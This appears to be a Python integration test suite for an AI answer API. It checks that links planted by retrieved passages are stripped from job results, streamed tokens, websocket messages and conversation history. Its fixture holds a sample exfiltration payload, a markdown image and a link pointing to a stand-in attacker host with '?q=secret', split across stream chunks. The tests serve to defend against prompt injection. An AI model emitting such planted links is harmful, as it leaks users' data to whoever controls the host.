"""Links in an answer from retrieved passages leave by no way out: a passage may have planted them."""

import asyncio

import orjson
import pytest
from websockets.asyncio.client import connect

from eventing.cloudevent.result_event import result_event
from eventing.job.job import JobId
from eventing.job.pipelines.document import parse_pipelines
from eventing.redis import keys
from tests.integration.api.conftest import Rig
from tests.integration.api.fakes import chat_result, sse_events

PIECES = (
    "See ![a](https://ev",
    "il.example/?q=sec",
    "ret) and [b](http",
    "s://evil.example/x) or https://docs.example.org/a here.",
)
WHOLE = "".join(PIECES)
HARMFUL = "evil"
SHOWN = "See a and b or https://docs.example.org/a here."


async def answered(rig: Rig) -> str:
    """A job whose plan retrieves, with an answer that has planted links."""
    return await answer(rig, await rig.submit())


async def answer(rig: Rig, job_id: str) -> str:
    """Answer it with planted links, under a plan that retrieves."""
    settings = {"vector_store_ids": ["vs_1"], "allowed_hosts": ["docs.example.org"]}
    plan = parse_pipelines({"m": {"steps": [{"step": "retrieve", "settings": settings}]}})["m"]
    await rig.store.redis.hset(keys.job(JobId(job_id)), "plan", plan.to_json())
    predictor = await rig.predictor(job_id)
    for piece in PIECES[:-1]:
        await predictor.chat(piece)
    await predictor.chat(PIECES[-1], "stop")
    await predictor.finish(chat_result(WHOLE, reasoning=WHOLE))
    return job_id


async def events(rig: Rig, job_id: str, after: str = "") -> list[dict[str, str]]:
    headers = {"Last-Event-ID": after} if after else {}
    path = f"/v1/jobs/{job_id}/events"
    async with rig.client.stream("GET", path, headers=headers) as answer:
        return [event async for event in sse_events(answer.aiter_lines())]


def text_of(seen: list[dict[str, str]]) -> str:
    deltas = [orjson.loads(e["data"])["delta"] for e in seen if e.get("event") == "tokens"]
    return "".join(each["delta"].get("content", "") for delta in deltas for each in delta)


@pytest.mark.parametrize("path", ["", "/result"])
async def test_a_job_and_its_result_show_no_planted_link(rig: Rig, path: str) -> None:
    job_id = await answered(rig)

    body = (await rig.client.get(f"/v1/jobs/{job_id}{path}")).text

    assert HARMFUL not in body
    assert "https://docs.example.org/a" in body


async def test_token_events_show_no_planted_link_wherever_a_reader_resumes(rig: Rig) -> None:
    job_id = await answered(rig)

    whole = await events(rig, job_id)

    assert text_of(whole) == SHOWN
    for place, event in enumerate(whole):
        if event.get("id", "").endswith(".end") or "id" not in event:
            continue
        rest = await events(rig, job_id, event["id"])
        assert rest == whole[place + 1 :]
        assert HARMFUL not in str(rest)


async def test_a_websocket_shows_no_planted_link(rig: Rig) -> None:
    job_id = await answered(rig)
    url = f"{rig.url.replace('http', 'ws', 1)}/v1/jobs/{job_id}/ws"

    async with asyncio.timeout(60), connect(url) as socket:
        seen = "".join([str(message) async for message in socket])

    assert "tokens" in seen
    assert HARMFUL not in seen


async def test_a_result_event_shows_no_planted_link(rig: Rig) -> None:
    job = await rig.store.get(JobId(await answered(rig)))
    assert job is not None

    data = orjson.loads(result_event(job).data)

    text = data["response"]["choices"][0]["message"]["content"]
    assert text == SHOWN


async def turn(rig: Rig, conversation: str, text: str) -> str:
    body = {"model": "m", "input": text, "conversation": conversation, "background": True}
    made = await rig.client.post("/v1/responses", json=body)
    assert made.status_code == 200, made.text
    job_id = str(made.json()["id"]).replace("resp_", "job_")
    await rig.broker.until_asked_for(job_id)
    return job_id


async def test_a_conversation_and_its_next_prompt_have_no_planted_link(rig: Rig) -> None:
    conversation = (await rig.client.post("/v1/conversations", json={})).json()["id"]
    own = {"type": "message", "role": "user", "content": "Mine: https://evil.example/mine"}
    path = f"/v1/conversations/{conversation}/items"
    await rig.client.post(path, json={"items": [own]})
    await answer(rig, await turn(rig, conversation, "Why?"))

    listed = (await rig.client.get(path, params={"order": "asc"})).json()["data"]
    after = await rig.store.get(JobId(await turn(rig, conversation, "And?")))

    assert after is not None
    texts = [part["text"] for item in listed for part in item["content"]]
    assert texts == ["Mine: https://evil.example/mine", "Why?", SHOWN, SHOWN]
    assert all("link_hosts" not in item for item in listed)
    assert SHOWN in str(after.request.body)
    assert "evil.example/x" not in str(after.request.body)
    one = (await rig.client.get(f"{path}/{listed[-1]['id']}")).json()
    assert one == listed[-1]


async def test_an_answer_without_retrieval_keeps_its_links_in_its_conversation(rig: Rig) -> None:
    conversation = (await rig.client.post("/v1/conversations", json={})).json()["id"]
    predictor = await rig.predictor(await turn(rig, conversation, "Why?"))
    await predictor.finish(chat_result(WHOLE))

    path = f"/v1/conversations/{conversation}/items"
    listed = (await rig.client.get(path, params={"order": "asc"})).json()["data"]

    assert listed[-1]["content"][0]["text"] == WHOLE
